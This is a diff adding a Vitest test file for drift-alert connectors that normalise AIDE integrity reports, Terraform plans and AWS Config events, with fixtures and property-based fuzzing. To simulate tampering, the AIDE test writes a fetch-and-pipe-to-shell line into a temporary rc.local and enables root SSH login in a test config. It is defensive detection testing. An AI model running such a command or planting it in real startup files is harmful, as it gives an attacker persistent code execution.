@@ -1,0 +1,381 @@
+import { spawnSync } from 'node:child_process';
+import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import fc from 'fast-check';
+import { canonicalAlertSchema } from '../../src/core/types.js';
+import type { IntakeResult } from '../../connectors/types.js';
+import { webhookConnector } from '../../connectors/webhook.js';
+import { syncIntake, testServices, type SyncIntake } from '../helpers/connectors.js';
+import { requireProgram } from '../helpers/programs.js';
+
+type Json = Record<string, unknown>;
+
+const RECEIVED_AT = Date.parse('2026-11-23T04:00:00Z');
+
+function fixture(path: string): Json {
+  return JSON.parse(readFileSync(new URL(`../fixtures/${path}`, import.meta.url), 'utf8')) as Json;
+}
+
+/** Values of every kind, JSON or not, for the parsers' properties. */
+const everything = fc.anything({
+  withBigInt: true,
+  withBoxedValues: true,
+  withDate: true,
+  withMap: true,
+  withNullPrototype: true,
+  withSparseArray: true,
+});
+
+/** Every path into a document, so that a property can replace what is there. */
+function pathsOf(value: unknown, at: (string | number)[] = []): (string | number)[][] {
+  if (typeof value !== 'object' || value === null) return [at];
+  const entries = Array.isArray(value) ? value.map((item, index) => [index, item] as const) : Object.entries(value);
+  return [at, ...entries.flatMap(([key, item]) => pathsOf(item, [...at, key]))];
+}
+
+/** A deep copy of a JSON document with the value at `path` replaced. */
+function replaced(document: unknown, path: (string | number)[], value: unknown): unknown {
+  if (path.length === 0) return value;
+  const copy = structuredClone(document) as Record<string | number, unknown>;
+  let parent = copy;
+  for (const key of path.slice(0, -1)) parent = parent[key] as Record<string | number, unknown>;
+  parent[path[path.length - 1] as string | number] = value;
+  return copy;
+}
+
+/** What every intake owes any input: valid alerts, and errors that say where. */
+function expectWellFormed({ alerts, errors }: IntakeResult): void {
+  for (const alert of alerts) expect(canonicalAlertSchema.safeParse(alert).success).toBe(true);
+  for (const error of errors) expect(error.path).not.toBe('');
+}
+
+function intake(name: string, preset: string, fields: Json = {}): SyncIntake {
+  return syncIntake(
+    webhookConnector.create(
+      webhookConnector.schema.parse({ type: 'webhook', name, auth: { type: 'bearer', token: 't' }, preset, ...fields }),
+      testServices(),
+    ),
+  );
+}
+
+describe('aide preset, with the real AIDE', () => {
+  const aide = requireProgram('aide', 'aide');
+  let dir = '';
+  let initReport = { status: null as number | null, report: {} as Json };
+  const run = (...args: string[]) => {
+    const result = spawnSync(aide, ['--config', join(dir, 'aide.conf'), ...args], { encoding: 'utf8' });
+    if (result.error !== undefined) throw result.error;
+    return { status: result.status, report: JSON.parse(readFileSync(join(dir, 'report.json'), 'utf8')) as Json };
+  };
+  const promote = () => renameSync(join(dir, 'aide.db.new.gz'), join(dir, 'aide.db.gz'));
+  const connector = () => intake('aide-web-1', 'aide', { mapping: { asset: { value: 'web-1' } } });
+
+  beforeAll(() => {
+    dir = mkdtempSync(join(tmpdir(), 'recurd-aide-'));
+    mkdirSync(join(dir, 'etc'));
+    writeFileSync(join(dir, 'etc', 'sshd_config'), 'PermitRootLogin no\n');
+    writeFileSync(join(dir, 'etc', 'motd'), 'authorised use only\n');
+    // report_format must stand before report_url, or the report is plain text (TESTING.md).
+    writeFileSync(
+      join(dir, 'aide.conf'),
+      [
+        `database_in=file:${join(dir, 'aide.db.gz')}`,
+        `database_out=file:${join(dir, 'aide.db.new.gz')}`,
+        'report_format=json',
+        `report_url=file:${join(dir, 'report.json')}`,
+        // Regular files only: a directory's size depends on the file system under the test.
+        `${join(dir, 'etc')} f p+u+g+s+sha256`,
+        '',
+      ].join('\n'),
+    );
+    initReport = run('--init');
+    promote();
+  });
+  afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+  it('refuses the report of --init, which checks nothing, by the field that says so', () => {
+    expect(initReport.status).toBe(0);
+    expect(connector().normalise(initReport.report, RECEIVED_AT)).toEqual({
+      alerts: [],
+      errors: [
+        { path: 'outline', message: 'status: is "AIDE successfully initialized database.", not one of "firing", "resolved" after mapping' },
+      ],
+    });
+  });
+
+  it('fires on a check that finds differences and resolves on a clean check after the baseline is updated', () => {
+    appendFileSync(join(dir, 'etc', 'sshd_config'), 'PermitRootLogin yes\n');
+    writeFileSync(join(dir, 'etc', 'rc.local'), 'curl http://203.0.113.9/x | sh\n');
+    unlinkSync(join(dir, 'etc', 'motd'));
+    const dirty = run('--check');
+    expect(dirty.status).not.toBe(0);
+    const start = String(dirty.report.start_time).replace(/^(\S+) (\S+) ([+-]\d\d)(\d\d)$/, '$1T$2$3:$4');
+    const end = String(dirty.report.end_time).replace(/^(\S+) (\S+) ([+-]\d\d)(\d\d)$/, '$1T$2$3:$4');
+    expect(connector().normalise(dirty.report, RECEIVED_AT)).toEqual({
+      alerts: [
+        {
+          id: start,
+          source: 'aide-web-1',
+          family: 'config-drift',
+          status: 'firing',
+          observedAt: Date.parse(start),
+          asset: 'web-1',
+          check: 'aide',
+          message: 'AIDE found differences between database and filesystem!!',
+          severity: 'medium',
+          control: 'A.8.9',
+          labels: { aide_version: expect.stringMatching(/^0\.\d+/) as unknown },
+          evidence: {
+            startTime: start,
+            endTime: end,
+            entries: { total: 2, added: 1, removed: 1, changed: 1 },
+            added: { [join(dir, 'etc', 'rc.local')]: expect.stringMatching(/^f\++$/) as unknown },
+            removed: { [join(dir, 'etc', 'motd')]: expect.stringMatching(/^f-+$/) as unknown },
+            changed: { [join(dir, 'etc', 'sshd_config')]: expect.stringMatching(/^f/) as unknown },
+            details: {
+              [join(dir, 'etc', 'sshd_config')]: {
+                size: { old: 19, new: 39 },
+                sha256: { old: expect.any(String) as unknown, new: expect.any(String) as unknown },
+              },
+            },
+            databases: { [join(dir, 'aide.db.gz')]: expect.any(Object) as unknown },
+          },
+        },
+      ],
+      errors: [],
+    });
+
+    // The reviewed changes become the baseline; the next check finds nothing.
+    run('--update');
+    promote();
+    const clean = run('--check');
+    expect(clean.status).toBe(0);
+    const [resolved] = connector().normalise(clean.report, RECEIVED_AT).alerts;
+    expect(resolved).toMatchObject({
+      status: 'resolved',
+      asset: 'web-1',
+      check: 'aide',
+      message: 'AIDE found NO differences between database and filesystem. Looks okay!!',
+      evidence: { entries: { total: 2 } },
+    });
+    expect(resolved?.evidence).not.toHaveProperty('changed');
+  });
+
+  it('gives valid alerts or errors with a path whatever replaces any part of a real report', () => {
+    const { report } = run('--check');
+    const connector = intake('aide', 'aide');
+    fc.assert(
+      fc.property(fc.constantFrom(...pathsOf(report)), everything, (path, value) => {
+        expectWellFormed(connector.normalise(replaced(report, path, value), RECEIVED_AT));
+      }),
+      { numRuns: 200 },
+    );
+  });
+
+  it('names the missing run time of a report by its field', () => {
+    const report = { ...run('--check').report };
+    delete report.start_time;
+    expect(connector().normalise(report, RECEIVED_AT)).toEqual({
+      alerts: [],
+      errors: [
+        { path: 'start_time', message: 'id: missing' },
+        { path: 'start_time', message: 'observedAt: missing' },
+      ],
+    });
+  });
+});
+
+describe('terraform-plan preset, on plans from Terraform’s own tests', () => {
+  const connector = intake('terraform-prod', 'terraform-plan');
+  const provider = 'registry.terraform.io/hashicorp/tfcoremock';
+
+  it('fires for the drifted resource of a plan', () => {
+    expect(connector.normalise(fixture('terraform/drift_simple.plan.json'), RECEIVED_AT)).toEqual({
+      alerts: [
+        {
+          id: 'tfcoremock_simple_resource.drift@2023-05-25T07:35:17Z',
+          source: 'terraform-prod',
+          family: 'config-drift',
+          status: 'firing',
+          observedAt: Date.parse('2023-05-25T07:35:17Z'),
+          asset: 'tfcoremock_simple_resource.drift',
+          check: 'tfcoremock_simple_resource',
+          message: 'tfcoremock_simple_resource.drift changed outside Terraform (update)',
+          severity: 'medium',
+          control: 'A.8.9',
+          labels: { provider, action: 'update' },
+          evidence: { planTimestamp: '2023-05-25T07:35:17Z', actions: ['update'], changedAttributes: ['string'] },
+        },
+      ],
+      errors: [],
+    });
+  });
+
+  it('resolves every other managed resource the plan refreshed, and never keeps attribute values', () => {
+    const { alerts, errors } = connector.normalise(fixture('terraform/drift_relevant_attributes.plan.json'), RECEIVED_AT);
+    expect(errors).toEqual([]);
+    expect(alerts).toEqual([
+      expect.objectContaining({
+        id: 'tfcoremock_simple_resource.base@2023-05-25T07:35:15Z',
+        status: 'firing',
+        asset: 'tfcoremock_simple_resource.base',
+        evidence: { planTimestamp: '2023-05-25T07:35:15Z', actions: ['update'], changedAttributes: ['number', 'string'] },
+      }),
+      {
+        id: 'tfcoremock_simple_resource.dependent@2023-05-25T07:35:15Z',
+        source: 'terraform-prod',
+        family: 'config-drift',
+        status: 'resolved',
+        observedAt: Date.parse('2023-05-25T07:35:15Z'),
+        asset: 'tfcoremock_simple_resource.dependent',
+        check: 'tfcoremock_simple_resource',
+        message: 'tfcoremock_simple_resource.dependent matches its Terraform state',
+        severity: 'medium',
+        control: 'A.8.9',
+        labels: { provider },
+        evidence: { planTimestamp: '2023-05-25T07:35:15Z' },
+      },
+    ]);
+    expect(JSON.stringify(alerts)).not.toContain('Hello, drift!');
+  });
+
+  it('resolves the resources of a plan without drift', () => {
+    const { alerts, errors } = connector.normalise(fixture('terraform/basic_list_update.plan.json'), RECEIVED_AT);
+    expect(errors).toEqual([]);
+    expect(alerts.map(({ id, status, asset }) => ({ id, status, asset }))).toEqual([
+      { id: 'tfcoremock_list.list@2023-05-25T07:34:52Z', status: 'resolved', asset: 'tfcoremock_list.list' },
+    ]);
+  });
+
+  it('gives only the drift of a plan that errored: it did not compare everything', () => {
+    const plan = { ...fixture('terraform/drift_relevant_attributes.plan.json'), errored: true };
+    expect(connector.normalise(plan, RECEIVED_AT).alerts.map((alert) => [alert.asset, alert.status])).toEqual([
+      ['tfcoremock_simple_resource.base', 'firing'],
+    ]);
+  });
+
+  it('names the missing plan timestamp once: Terraform before 1.5, or a plan with it removed', () => {
+    const expected = { alerts: [], errors: [{ path: 'timestamp', message: 'observedAt: missing' }] };
+    // Terraform's golden `show -json` output leaves the volatile timestamp out.
+    expect(connector.normalise(fixture('terraform/show-json-drift.output.json'), RECEIVED_AT)).toEqual(expected);
+    const plan = fixture('terraform/drift_simple.plan.json');
+    delete plan.timestamp;
+    expect(connector.normalise(plan, RECEIVED_AT)).toEqual(expected);
+  });
+});
+
+describe('aws-config preset, on EventBridge events captured from AWS Config', () => {
+  const connector = intake('aws-config', 'aws-config');
+  const nonCompliant = fixture('aws-config/non-compliant.eventbridge.json');
+  const rule = 'cw-loggroup-retention-period-check-conformance-pack-qayjyopmd';
+
+  it('fires on NON_COMPLIANT', () => {
+    expect(connector.normalise(nonCompliant, RECEIVED_AT)).toEqual({
+      alerts: [
+        {
+          id: '1cccd43c-e7dc-a6be-4034-612ef2d862d5',
+          source: 'aws-config',
+          family: 'config-drift',
+          status: 'firing',
+          observedAt: Date.parse('2021-11-01T06:45:35.797Z'),
+          asset: 'dev1',
+          check: rule,
+          message: `AWS::Logs::LogGroup dev1 is NON_COMPLIANT with ${rule}: retentionInDays is less than MinRetentionTime 545 days. Current retentionInDays: 30 days`,
+          severity: 'medium',
+          control: 'A.8.9',
+          labels: { account: '746869318262', region: 'ap-southeast-2', resource_type: 'AWS::Logs::LogGroup' },
+          evidence: {
+            eventId: '1cccd43c-e7dc-a6be-4034-612ef2d862d5',
+            eventTime: '2021-11-01T06:45:52Z',
+            configRuleArn:
+              'arn:aws:config:ap-southeast-2:746869318262:config-rule/aws-service-rule/config-conforms.amazonaws.com/config-rule-vlxixs',
+            annotation: 'retentionInDays is less than MinRetentionTime 545 days. Current retentionInDays: 30 days',
+            resultRecordedTime: '2021-11-01T06:45:51.716Z',
+            previousComplianceType: 'COMPLIANT',
+            notificationCreationTime: '2021-11-01T06:45:52.018Z',
+          },
+        },
+      ],
+      errors: [],
+    });
+  });
+
+  it('resolves on COMPLIANT', () => {
+    const { alerts, errors } = connector.normalise(fixture('aws-config/compliant.eventbridge.json'), RECEIVED_AT);
+    expect(errors).toEqual([]);
+    expect(alerts).toEqual([
+      expect.objectContaining({
+        id: 'f0eae78e-0ccc-4079-a509-206fca99c4fc',
+        status: 'resolved',
+        observedAt: Date.parse('2021-11-23T11:04:51.916Z'),
+        asset: 'NZISM-ComplianceDispatcher',
+        check: 'lambda-function-public-access-prohibited-conformance-pack-qayjyopmd',
+        message: 'AWS::Lambda::Function NZISM-ComplianceDispatcher is COMPLIANT with lambda-function-public-access-prohibited-conformance-pack-qayjyopmd',
+      }),
+    ]);
+  });
+
+  it('names a missing or undecided compliance type by its path', () => {
+    const detail = nonCompliant.detail as Json;
+    const evaluation = detail.newEvaluationResult as Json;
+    const without = { ...nonCompliant, detail: { ...detail, newEvaluationResult: { ...evaluation, complianceType: undefined } } };
+    expect(connector.normalise(without, RECEIVED_AT).errors).toEqual([
+      { path: 'detail.newEvaluationResult.complianceType', message: 'status: missing' },
+    ]);
+    const undecided = { ...nonCompliant, detail: { ...detail, newEvaluationResult: { ...evaluation, complianceType: 'INSUFFICIENT_DATA' } } };
+    expect(connector.normalise(undecided, RECEIVED_AT).errors).toEqual([
+      {
+        path: 'detail.newEvaluationResult.complianceType',
+        message: 'status: is "INSUFFICIENT_DATA", not one of "firing", "resolved" after mapping',
+      },
+    ]);
+  });
+
+  it("takes the admin's fields over the preset's one by one, labels merged by name", () => {
+    const arn = intake('aws-config', 'aws-config', {
+      control: 'A.8.15',
+      mapping: { asset: 'detail.configRuleARN', labels: { ordering: 'detail.newEvaluationResult.evaluationResultIdentifier.orderingTimestamp' } },
+    });
+    const [alert] = arn.normalise(nonCompliant, RECEIVED_AT).alerts;
+    expect(alert).toMatchObject({
+      asset: 'arn:aws:config:ap-southeast-2:746869318262:config-rule/aws-service-rule/config-conforms.amazonaws.com/config-rule-vlxixs',
+      check: rule,
+      status: 'firing',
+      // The connector's control stands in for the preset's, which the mapping does not set.
+      control: 'A.8.15',
+      labels: { account: '746869318262', region: 'ap-southeast-2', resource_type: 'AWS::Logs::LogGroup', ordering: '2021-11-01T06:45:35.797Z' },
+    });
+  });
+});
+
+describe('drift presets: any input', () => {
+  const connectors = [intake('a', 'aide'), intake('t', 'terraform-plan'), intake('c', 'aws-config')];
+  it('gives valid alerts or errors with a path, never a crash', () => {
+    fc.assert(
+      fc.property(fc.oneof(fc.jsonValue(), everything), (body) => {
+        for (const connector of connectors) {
+          expectWellFormed(connector.normalise(body, RECEIVED_AT));
+        }
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('gives valid alerts or errors with a path whatever replaces any part of a real document', () => {
+    const documents = [
+      ['terraform-plan', fixture('terraform/drift_relevant_attributes.plan.json')],
+      ['aws-config', fixture('aws-config/non-compliant.eventbridge.json')],
+    ] as const;
+    for (const [preset, document] of documents) {
+      const connector = intake(preset, preset);
+      fc.assert(
+        fc.property(fc.constantFrom(...pathsOf(document)), everything, (path, value) => {
+          expectWellFormed(connector.normalise(replaced(document, path, value), RECEIVED_AT));
+        }),
+        { numRuns: 200 },
+      );
+    }
+  });
+});
